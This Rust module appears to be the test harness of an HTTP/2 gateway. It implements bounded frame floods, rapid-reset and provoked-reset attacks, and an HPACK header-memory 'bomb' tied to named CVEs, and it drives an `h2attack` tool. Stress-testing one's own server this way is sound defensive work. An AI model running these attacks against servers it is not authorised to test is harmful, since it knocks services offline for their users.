//! What HTTP/2 is attacked with: floods of frames that cost the sender nothing, and requests that are small on the wire
//! and large in memory.
//!
//! For tests of the gateway, and for `h2attack`, which points them at one that runs. Each is bounded in what it sends.

use std::net::SocketAddr;
use std::thread;

use crate::frames::{self, Connection, End};

/// A frame, or a few, that is sent again and again.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    Settings,
    Ping,
    Priority,
    WindowUpdate,
    EmptyData,
    Continuation,
    /// A request and its reset (CVE-2023-44487).
    Reset,
    /// A request, and what makes the server reset it (CVE-2025-8671).
    ProvokedReset,
    Unknown,
}

/// What became of a flood.
#[derive(Debug)]
pub struct Flooded {
    pub end: End,
    /// Bytes that were sent.
    pub sent: u64,
    /// Bytes that the server sent, in whole frames.
    pub received: u64,
}

impl Flood {
    pub const ALL: [Self; 9] = [
        Self::Settings,
        Self::Ping,
        Self::Priority,
        Self::WindowUpdate,
        Self::EmptyData,
        Self::Continuation,
        Self::Reset,
        Self::ProvokedReset,
        Self::Unknown,
    ];

    /// As `h2attack` calls it.
    pub fn name(self) -> &'static str {
        match self {
            Self::Settings => "settings",
            Self::Ping => "ping",
            Self::Priority => "priority",
            Self::WindowUpdate => "window-update",
            Self::EmptyData => "empty-data",
            Self::Continuation => "continuation",
            Self::Reset => "reset",
            Self::ProvokedReset => "provoked-reset",
            Self::Unknown => "unknown",
        }
    }

    /// Sends up to so many, and no more when the connection is closed.
    pub fn run(self, address: SocketAddr, most: u32) -> Flooded {
        /// Frames of one write.
        const AT_ONCE: u32 = 50;
        let mut connection = Connection::open(address, &[]);
        let mut reader = connection.reader();
        let hears = thread::spawn(move || {
            let (mut end, mut received) = (End::Closed, 0);
            while let Ok(Some(frame)) = reader.read() {
                received += 9 + frame.payload.len() as u64;
                if let (frames::GOAWAY, Some(code)) = (frame.kind, frame.code()) {
                    end = End::GoAway(code);
                }
            }
            (end, received)
        });
        let mut is_open = connection.write(self.opening()).is_ok();
        for first in (0..most).step_by(AT_ONCE as usize) {
            let batch: Vec<u8> = (first..first + AT_ONCE).flat_map(|at| self.frames(at)).collect();
            is_open = is_open && connection.write(batch).is_ok();
            if !is_open {
                break;
            }
        }
        // Who is still there now answers this.
        is_open = is_open && connection.write(frames::frame(frames::PING, 0, 0, b"the end!")).is_ok();
        connection.half_close();
        let (end, received) = hears.join().expect("it only reads");
        let end = if is_open && end == End::Closed { End::Open } else { end };
        Flooded { end, sent: connection.sent(), received }
    }

    fn opening(self) -> Vec<u8> {
        match self {
            Self::EmptyData => frames::frame(frames::HEADERS, frames::END_HEADERS, 1, frames::POST),
            Self::Continuation => frames::frame(frames::HEADERS, 0, 1, frames::GET),
            Self::WindowUpdate => frames::request(1, frames::GET),
            _ => Vec::new(),
        }
    }

    fn frames(self, at: u32) -> Vec<u8> {
        let stream = 2 * at + 1;
        match self {
            Self::Settings => frames::settings(&[]),
            Self::Ping => frames::frame(frames::PING, 0, 0, &[0; 8]),
            Self::Priority => frames::frame(frames::PRIORITY, 0, stream, &[0, 0, 0, 0, 1]),
            Self::WindowUpdate => frames::window_update(0, 1),
            Self::EmptyData => frames::frame(frames::DATA, 0, 1, &[]),
            Self::Continuation => frames::frame(frames::CONTINUATION, 0, 1, &[0x90]),
            Self::Reset => [frames::request(stream, frames::GET), frames::reset(stream, frames::CANCEL)].concat(),
            Self::ProvokedReset => {
                [frames::request(stream, frames::GET), frames::window_update(stream, 0x7fff_ffff)].concat()
            }
            Self::Unknown => frames::frame(0x42, 0, 0, &[]),
        }
    }
}

/// Requests that are small on the wire and large in memory, and a client that takes nothing of the responses
/// (CVE-2026-49975).
#[derive(Debug, Clone)]
pub struct Bomb {
    pub connections: usize,
    pub streams: u32,
    /// Field lines of each request, of one byte each.
    pub fields: usize,
    /// They are all the same cookie, of so many bytes, and not of many names.
    pub cookies: Option<usize>,
    /// What each response may send.
    pub window: u32,
    /// The whole connection may send as much as there is, and nothing of it is read.
    pub unread: bool,
    /// The same as `window`, said anew when all requests are there.
    pub window_after: Option<u32>,
    /// The requests promise a body that never comes.
    pub without_end: bool,
    /// What is asked for.
    pub path: String,
}

impl Default for Bomb {
    /// Requests within the limits, and no window.
    fn default() -> Self {
        Self {
            connections: 20,
            streams: 100,
            fields: 95,
            cookies: None,
            window: 0,
            unread: false,
            window_after: None,
            without_end: false,
            path: "/".to_owned(),
        }
    }
}

impl Bomb {
    /// Sends all of it. The connections stay open, and may be closed from the other side.
    pub fn drop_on(&self, address: SocketAddr) -> Vec<Connection> {
        (0..self.connections).map(|_| self.connection(address)).collect()
    }

    /// Lets each response of these connections send one byte.
    pub fn trickle(&self, connections: &mut [Connection]) {
        let updates: Vec<u8> = (0..self.streams).flat_map(|at| frames::window_update(2 * at + 1, 1)).collect();
        for connection in connections {
            let _ = connection.write(&updates);
        }
    }

    fn connection(&self, address: SocketAddr) -> Connection {
        /// The largest frame that everybody takes is a little longer.
        const FRAGMENT: usize = 16_000;
        let mut connection = Connection::open(address, &[(frames::INITIAL_WINDOW_SIZE, self.window)]);
        if self.unread {
            let _ = connection.write(frames::window_update(0, i32::MAX.cast_unsigned() - 65_535));
        }
        let end_stream = if self.without_end { 0 } else { frames::END_STREAM };
        for at in 0..self.streams {
            let (stream, block) = (2 * at + 1, self.block(at == 0));
            let mut fragments = block.chunks(FRAGMENT).enumerate().peekable();
            while let Some((place, fragment)) = fragments.next() {
                let end_headers = if fragments.peek().is_none() { frames::END_HEADERS } else { 0 };
                let frame = match place {
                    0 => frames::frame(frames::HEADERS, end_stream | end_headers, stream, fragment),
                    _ => frames::frame(frames::CONTINUATION, end_headers, stream, fragment),
                };
                if connection.write(frame).is_err() {
                    return connection;
                }
            }
        }
        if let Some(window) = self.window_after {
            let _ = connection.write(frames::settings(&[(frames::INITIAL_WINDOW_SIZE, window)]));
        }
        connection
    }

    /// The first fills the dynamic table, of which all others take their lines.
    fn block(&self, first: bool) -> Vec<u8> {
        /// Names that one byte can stand for, besides the path and the authority.
        const NAMES: usize = 60;
        /// The newest entry of the dynamic table: behind the static one.
        const NEWEST: usize = 62;
        let names = if self.cookies.is_some() { 1 } else { NAMES.min(self.fields) };
        let index = |at: usize| 0x80 | u8::try_from(NEWEST + at).expect("there are few names");
        let mut block = vec![if self.without_end { 0x83 } else { 0x82 }, 0x86];
        if first {
            let length = u8::try_from(self.path.len()).ok().filter(|length| *length < 0x7f);
            block.extend([0x44, length.expect("the path is short")]);
            block.extend(self.path.as_bytes());
            block.extend(b"\x41\x01x");
            block.extend((0..names).flat_map(|at| match self.cookies {
                Some(length) => frames::indexed_field("cookie", &format!("a={}", "b".repeat(length - 2))),
                None => frames::indexed_field(&format!("a{at}"), ""),
            }));
        } else {
            block.extend([index(names + 1), index(names)]);
        }
        let left = self.fields - if first { names } else { 0 };
        block.extend((0..left).map(|at| index(at % names)));
        block
    }
}
